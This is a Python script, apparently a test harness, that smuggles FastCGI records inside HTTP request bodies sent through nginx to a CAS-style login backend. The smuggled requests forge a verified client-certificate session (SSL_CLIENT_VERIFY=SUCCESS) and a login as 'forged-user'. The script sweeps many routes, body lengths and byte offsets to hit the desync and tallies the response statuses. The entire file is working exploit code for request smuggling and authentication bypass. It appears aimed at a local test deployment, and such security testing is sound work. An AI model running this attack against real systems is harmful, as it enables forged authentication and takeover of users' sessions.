"""Sends bodies with FastCGI records in them through nginx, over kept connections.

    forge.py BASE CA CERTIFICATE [quick]

A back end that does not read a body to its end takes what is left of it for the gateway's next
request. The records in these bodies are such requests: a session by the certificate in the file
CERTIFICATE, and the refused login of a user called `forged-user`. Prints how many bodies went out,
and the answers by status.
"""

import collections
import http.client
import ssl
import struct
import sys
import urllib.parse

base, authority, certificate_file = sys.argv[1:4]
is_quick = sys.argv[4:] == ["quick"]
address = urllib.parse.urlsplit(base)
with open(certificate_file) as file:
    certificate = file.read()
port = str(address.port)


def record(kind, content, request=1):
    return struct.pack(">BBHHBB", 1, kind, request, len(content), 0, 0) + content


def pairs(parameters):
    out = b""
    for name, value in parameters.items():
        for text in (name, value):
            length = len(text.encode())
            out += bytes([length]) if length < 128 else struct.pack(">I", length | 1 << 31)
        out += name.encode() + value.encode()
    return out


def request(path, body=b"", **more):
    parameters = {
        "CASD_PROFILE": "1", "REQUEST_METHOD": "POST", "REQUEST_URI": address.path + path,
        "QUERY_STRING": "", "CONTENT_LENGTH": str(len(body)),
        "CONTENT_TYPE": "application/x-www-form-urlencoded", "SERVER_PROTOCOL": "HTTP/1.1",
        "REQUEST_SCHEME": "https", "HTTPS": "on", "SERVER_NAME": "localhost", "SERVER_PORT": port,
        "REMOTE_ADDR": "192.0.2.66", "REQUEST_ID": "f0" * 16, "HTTP_ACCEPT": "text/plain",
    }
    parameters.update(more)
    bytes_ = record(1, b"\0\1\1\0\0\0\0\0") + record(4, pairs(parameters)) + record(4, b"")
    return bytes_ + (record(5, body) if body else b"") + record(5, b"")


forged = [
    request("/v1/tickets", SSL_CLIENT_VERIFY="SUCCESS", SSL_CLIENT_CERT=certificate),
    request("/v1/tickets", b"username=forged-user&password=forged"),
]
# A STDIN record of another request, whose content is the same again: it can be read from any
# multiple of eight bytes on.
unit = b"\1\5\0\2\0\10\0\0"


def body(total, filler, ending):
    units = max(0, (total - filler - len(ending)) // 8)
    return b"x" * filler + unit * units + ending + b"x" * max(0, total - filler - units * 8 - len(ending))


FORM = "application/x-www-form-urlencoded"
routes = [
    ("POST", "/login", FORM), ("POST", "/logout", FORM), ("POST", "/validate", FORM),
    ("POST", "/serviceValidate", FORM), ("POST", "/p3/serviceValidate", FORM),
    ("POST", "/v1/tickets", FORM), ("POST", "/v1/tickets/TGT-x", FORM),
    ("POST", "/nowhere", FORM), ("DELETE", "/login", FORM), ("PUT", "/v1/tickets", FORM),
    ("PROPFIND", "/validate", FORM), ("GET", "/serviceValidate", FORM),
    ("POST", "/login", "application/json"), ("POST", "/v1/tickets", "multipart/form-data"),
    ("POST", "/%2e%2e/%2Flogin", FORM), ("POST", "//login%00", FORM),
    ("POST", "/login?" + "&".join("a%d=1" % index for index in range(300)), FORM),
    ("POST", "/login?service=a&service=b", FORM), ("DELETE", "/v1/tickets/TGT-x", FORM),
]
# Around libfcgi's buffer of 8 KiB, twice that, nginx's STDIN records of 32 KiB, and the limit.
lengths = list(range(8143, 8151)) + [8192, 9000, 16384 - 48, 16384, 32768 - 8, 32768, 33000, 65536]
fillers = range(16)
if is_quick:
    routes, lengths = routes[:1], range(8143, 8151)

context = ssl.create_default_context(cafile=authority)
context.set_alpn_protocols(["http/1.1"])
connection = http.client.HTTPSConnection("localhost", address.port, context=context, timeout=20)
statuses = collections.Counter()
sent = 0


def send(method, path, kind, data):
    global sent
    for attempt in (1, 2):
        try:
            connection.request(method, address.path + path, data, {"Content-Type": kind})
            answer = connection.getresponse()
            answer.read()
            statuses[answer.status] += 1
            break
        except (http.client.HTTPException, OSError):
            connection.close()
            if attempt == 2:
                statuses["broken"] += 1
    sent += 1


for index, (method, path, kind) in enumerate(routes):
    for length in lengths:
        for filler in fillers:
            ending = forged[(length + filler // 8 + index) % 2]
            send(method, path, kind, body(length, filler, ending))
            if filler % 4 == 0:
                connection.request("GET", address.path + "/login")  # takes up what was left behind
                connection.getresponse().read()
# One byte over the limit, which nginx refuses by itself.
send("POST", "/login", FORM, body(65537, 3, forged[0]))
print(sent, dict(statuses))
